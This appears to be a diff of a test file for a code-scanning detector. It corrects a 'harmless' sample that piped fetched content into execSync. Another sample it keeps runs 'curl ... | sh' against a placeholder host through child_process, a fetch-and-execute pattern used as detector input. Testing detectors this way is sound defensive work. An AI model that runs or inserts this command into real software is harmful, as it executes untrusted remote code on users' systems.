@@ -6,7 +6,7 @@ import { image } from '../../../test/detection/image-case.ts';
 import { findingsWithCache } from '../../../testkit/findings-with-cache.ts';
 
 const HARMLESS =
-  'const { execSync } = require("child_process");\nmodule.exports = (url) => fetch(url).then(execSync);\n';
+  'const { execSync } = require("child_process");\nmodule.exports = (url) => fetch(url).then(console.log);\n';
 const FETCHES = 'require("child_process").execSync("curl -s https://files.backend.example/u | sh")\n';
 
 let root: string;
